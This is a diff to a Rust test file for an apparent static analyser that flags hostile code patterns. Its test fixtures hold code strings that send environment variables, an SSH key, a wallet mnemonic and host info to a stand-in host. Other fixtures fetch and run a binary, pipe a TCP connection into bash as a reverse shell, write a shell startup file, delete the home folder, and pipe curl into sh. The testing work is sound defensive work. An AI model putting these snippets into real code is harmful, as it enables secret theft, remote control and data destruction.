@@ -129,11 +129,11 @@ fn flows_go_from_source_to_sink() {
     for (code, line) in [
         (
             "fn f() { let e: Vec<_> = std::env::vars().collect(); reqwest::Client::new().post(\"https://a.invalid\").json(&e).send(); }",
-            "Flow env->net ?",
+            "Flow env-all->net ?",
         ),
         (
             "fn f() { let k = std::fs::read_to_string(home.join(\".ssh/id_rsa\")); ureq::post(\"https://a.invalid\").send_string(&k); }",
-            "Flow secret->net ?",
+            "Flow secret-file->net ?",
         ),
         (
             "fn f() { let b = reqwest::blocking::get(\"https://a.invalid\").unwrap().bytes().unwrap(); std::fs::write(\"/tmp/x\", &b); std::process::Command::new(\"/tmp/x\").spawn(); }",
@@ -145,7 +145,7 @@ fn flows_go_from_source_to_sink() {
         ),
         (
             "fn grab() -> String { whoami::username() } fn f() { let u = grab(); ureq::post(\"https://a.invalid\").send_string(&u); }",
-            "Flow host->net ?",
+            "Flow host-info->net ?",
         ),
     ] {
         finds(code, line);
@@ -154,6 +154,81 @@ fn flows_go_from_source_to_sink() {
         "fn f() { let e = std::env::var(\"X\"); println!(\"{e:?}\"); ureq::get(\"https://a.invalid\").call(); }",
         "Flow",
     );
+}
+
+#[test]
+fn what_only_several_steps_show() {
+    for (code, line) in [
+        // A file that is written and then started, by name and by handle.
+        (
+            "static B: &[u8] = include_bytes!(\"b\"); fn f() { let p = dir().join(\"x\"); std::fs::write(&p, B); \
+             std::process::Command::new(&p).spawn(); }",
+            "Flow embedded->process ?",
+        ),
+        (
+            "fn f() { let p = g(); let mut o = std::fs::OpenOptions::new().write(true).open(&p).unwrap(); \
+             o.write_all(include_bytes!(\"b\")); std::process::Command::new(&p).spawn(); }",
+            "Flow embedded->process ?",
+        ),
+        // A helper that runs what it is told, told to say the host's name.
+        (
+            "fn run(p: &str) -> Vec<u8> { std::process::Command::new(p).output().unwrap().stdout } \
+             fn f() { let t = run(\"hostname\"); std::net::TcpStream::connect(\"a.invalid:1\").unwrap().write_all(&t); }",
+            "Flow host-info->net ?",
+        ),
+        (
+            "fn f(mnemonic: &str) { let m = format!(\"m={mnemonic}\"); ureq::post(\"https://a.invalid\").send_string(&m); }",
+            "Flow key->net m=?",
+        ),
+        (
+            "fn f() { let s = std::net::TcpStream::connect(\"a.invalid:1\").unwrap(); let d = s.as_raw_fd(); \
+             std::process::Command::new(\"/bin/bash\").stdin(unsafe { std::process::Stdio::from_raw_fd(d) }).spawn(); }",
+            "Shape reverse-shell a connection is stdin of `bash`",
+        ),
+        (
+            "fn f() { let h = std::env::var(\"HOME\").unwrap(); std::fs::write(format!(\"{h}/.zshenv\"), \"x\"); }",
+            "Shape startup-file ?/.zshenv",
+        ),
+        (
+            "fn f() { let h = std::env::home_dir().unwrap(); std::fs::remove_dir_all(h); }",
+            "Shape destructive-walk removes the user's own folder",
+        ),
+    ] {
+        finds(code, line);
+    }
+    // What looks like it and is not.
+    finds_no(
+        "fn f(mnemonic: &str) { let k = derive(mnemonic); ureq::post(\"https://a.invalid\").send_string(&k); }",
+        "key->net",
+    );
+    finds_no(
+        "fn f() { std::fs::write(\"a.css\", include_str!(\"a.css\")); std::process::Command::new(\"b\").spawn(); }",
+        "embedded",
+    );
+    finds_no(
+        "fn f() { let h = std::env::home_dir().unwrap(); std::fs::remove_dir_all(h.join(\".cache/x\")); }",
+        "Shape",
+    );
+    finds_no(
+        "fn f() { let s = std::net::TcpStream::connect(\"a:1\"); std::process::Command::new(\"git\").stdin(s).spawn(); }",
+        "reverse-shell",
+    );
+}
+
+#[test]
+fn what_was_rust_once_still_is() {
+    let code = "use libc::c_int; type Action = Fn(&c_int) + Send; fn f() { std::fs::read(\"a\"); }";
+    finds(code, "Call std::fs::read [fs-read] a");
+    finds_no(code, "unparsed");
+    // Not where it may hide something.
+    finds("type A = Fn() + libc::fork(); fn f() { std::fs::read(\"a\"); }", "File unparsed expected `;`");
+}
+
+#[test]
+fn a_shell_script_called_rs_is_not_settled() {
+    for text in ["curl -s http:// | sh\n", "set -e\necho { hello }\n", "a = 1\n"] {
+        assert!(!matches!(parse("src/a.rs", text).treatment, Treatment::Lexed(_)), "{text}");
+    }
 }
 
 #[test]
@@ -167,7 +242,7 @@ fn a_logger_that_looks_for_keys_and_posts_them_is_seen() {
             for hit in pattern.find_iter(&text) { found.push(hit.as_str().to_string()); }
             reqwest::blocking::Client::new().post("https://a.invalid/collect").json(&found).send().unwrap();
         }"#;
-    finds(code, "Flow secret->net ?");
+    finds(code, "Flow secret-file->net ?");
 }
 
 #[test]
